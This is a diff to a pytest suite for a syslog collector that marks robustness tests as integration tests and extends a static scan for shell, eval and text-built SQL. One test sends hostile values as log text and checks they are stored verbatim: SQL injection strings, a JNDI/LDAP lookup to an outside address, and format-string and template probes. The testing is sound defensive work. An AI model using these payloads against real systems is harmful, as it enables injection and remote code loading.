@@ -90,6 +90,7 @@ def _send_then_good(serve: Serve, bad: bytes, *, counted_good: bool = True) -> s
     return tag
 
 
+@pytest.mark.integration
 def test_binary_garbage_and_nul_bytes(serve: Serve) -> None:
     garbage = bytes(range(1, 256)).replace(b"\n", b"") * 4
     _send_then_good(serve, garbage + b"\n" + b"abc\x00def\x00", counted_good=False)
@@ -98,6 +99,7 @@ def test_binary_garbage_and_nul_bytes(serve: Serve) -> None:
     assert row["message"] == "with\x00nul\x00inside" and row["kind"] == "dhcpd.other"
 
 
+@pytest.mark.integration
 def test_invalid_utf8_is_counted_and_stored_with_replacement(serve: Serve) -> None:
     before = _errors(serve, "invalid_utf8")
     _send_then_good(serve, _counted(b"<30>Mar  3 08:15:02 h dhcpd: bad \xff\xfe utf8 here"))
@@ -106,6 +108,7 @@ def test_invalid_utf8_is_counted_and_stored_with_replacement(serve: Serve) -> No
     assert row["message"] == "bad \ufffd\ufffd utf8 here"
 
 
+@pytest.mark.integration
 def test_oversize_frames_non_numeric_counts_and_8mb_lines(serve: Serve) -> None:
     oversize = _errors(serve, "oversize")
     _send_then_good(serve, b"9000 " + b"y" * 9000)  # a counted frame over the limit: skipped exactly
@@ -115,6 +118,7 @@ def test_oversize_frames_non_numeric_counts_and_8mb_lines(serve: Serve) -> None:
     assert _stored(serve, "12a4 not a count") and tag
 
 
+@pytest.mark.integration
 def test_a_count_larger_than_what_follows_keeps_the_earlier_frames(serve: Serve) -> None:
     truncated = _errors(serve, "truncated")
     tag = f"t{uuid.uuid4().hex[:8]}"
@@ -126,6 +130,7 @@ def test_a_count_larger_than_what_follows_keeps_the_earlier_frames(serve: Serve)
     serve.poll(lambda: _errors(serve, "truncated") == truncated + 1, "the truncated frame counted")
 
 
+@pytest.mark.integration
 def test_oversized_udp_datagram(serve: Serve) -> None:
     oversize = _errors(serve, "oversize")
     tag = f"u{uuid.uuid4().hex[:8]}"
@@ -136,6 +141,7 @@ def test_oversized_udp_datagram(serve: Serve) -> None:
     assert _errors(serve, "oversize") == oversize + 1
 
 
+@pytest.mark.integration
 def test_far_timestamps_and_control_characters_in_host_names(serve: Serve) -> None:
     skew, bad_host = _errors(serve, "timestamp_skew"), _errors(serve, "bad_hostname")
     _send_then_good(serve, _counted(b"<30>1 2099-01-01T00:00:00Z h dhcpd - - - from the future")
@@ -146,6 +152,7 @@ def test_far_timestamps_and_control_characters_in_host_names(serve: Serve) -> No
     assert [r["host"] for r in _stored(serve, "escape in the host")] == ["ho\x1bst"]
 
 
+@pytest.mark.integration
 def test_numbers_too_big_for_their_columns_cost_no_neighbour(serve: Serve) -> None:
     """A PID beyond 32 bits (the store's column) is dropped from the record, so the line and the
     rest of its batch are stored and the store stays healthy."""
@@ -160,6 +167,7 @@ def test_numbers_too_big_for_their_columns_cost_no_neighbour(serve: Serve) -> No
     assert serve.get("/readyz")[0] == 200
 
 
+@pytest.mark.integration
 def test_sql_and_template_text_is_stored_verbatim(serve: Serve) -> None:
     nasty = ["x'); DROP TABLE messages; --", "{{7*7}} ${jndi:ldap://198.18.0.9/a} %s%n", "\\' OR 1=1 -- \\\\"]
     _send_then_good(serve, b"".join(_counted(f"<30>Mar  3 08:15:02 h dhcpd: nasty {x}".encode()) for x in nasty))
@@ -168,6 +176,7 @@ def test_sql_and_template_text_is_stored_verbatim(serve: Serve) -> None:
     assert serve.get("/readyz")[0] == 200  # and the tables are all still there
 
 
+@pytest.mark.integration
 def test_tls_hello_on_the_plain_port_closes_only_that_connection(serve: Serve) -> None:
     before = _errors(serve, "tls_on_plain_port")
     with socket.create_connection(("127.0.0.1", serve.tcp), timeout=10) as conn:
@@ -177,6 +186,7 @@ def test_tls_hello_on_the_plain_port_closes_only_that_connection(serve: Serve) -
     _send_then_good(serve, b"")
 
 
+@pytest.mark.integration
 def test_one_log_line_per_connection_for_many_errors(serve: Serve) -> None:
     with socket.create_connection(("127.0.0.1", serve.tcp), timeout=10) as conn:
         port = conn.getsockname()[1]
@@ -187,6 +197,7 @@ def test_one_log_line_per_connection_for_many_errors(serve: Serve) -> None:
     assert serve.logs().count(f":{port}: framing error") == 1
 
 
+@pytest.mark.integration
 def test_a_flood_does_not_starve_another_sender(serve: Serve) -> None:
     """One connection floods (it is paused and resumed by the bounded queue); another sender's
     lines still get through while the flood goes on."""
@@ -251,6 +262,7 @@ async def _closed_by_peer(reader: asyncio.StreamReader) -> bool:
         return True
 
 
+@pytest.mark.integration
 def test_connection_limits_total_and_per_sender() -> None:
     async def scenario() -> tuple[bool, bool, bool, float]:
         h = _Harness(max_connections=3, max_per_sender=2)
@@ -284,6 +296,7 @@ def test_connection_limits_total_and_per_sender() -> None:
     assert counted == 2
 
 
+@pytest.mark.integration
 def test_idle_connections_are_closed_after_the_timeout() -> None:
     async def scenario() -> tuple[bool, bool, float]:
         h = _Harness(idle_timeout=0.4)
@@ -309,6 +322,7 @@ def test_idle_connections_are_closed_after_the_timeout() -> None:
     assert idle_closed and busy_open and counted == 1
 
 
+@pytest.mark.integration
 def test_serve_api_needs_the_bearer_token_when_one_is_set(tmp_path_factory: pytest.TempPathFactory,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PAIRWATCH_API_TOKEN", "s3cret-token")  # the subprocess inherits it
@@ -330,6 +344,7 @@ def test_serve_api_needs_the_bearer_token_when_one_is_set(tmp_path_factory: pyte
         assert "pairs" in get_json(secured.url(""), "/api/v1/pairs")
 
 
+@pytest.mark.integration
 def test_thousands_of_idle_connections_and_a_slowloris_leave_room_for_the_real_sender() -> None:
     """2,000 idle connections from one address and one sending a byte a second: the per-sender
     limit refuses most of them (counted), the slow one holds one slot, and another sender's
@@ -373,7 +388,9 @@ def test_no_shell_no_eval_and_no_sql_built_from_text_in_the_service() -> None:
     from pathlib import Path
 
     root = Path(__file__).resolve().parents[2]
-    for path in [*root.glob("collector/*.py"), *root.glob("parsers/*.py")]:
+    paths = [*(root / "collector").rglob("*.py"), *(root / "parsers").rglob("*.py")]  # (sub-packages too)
+    assert len(paths) > 30
+    for path in paths:
         tree = ast.parse(path.read_text(), str(path))
         for node in ast.walk(tree):
             if isinstance(node, ast.Import | ast.ImportFrom):
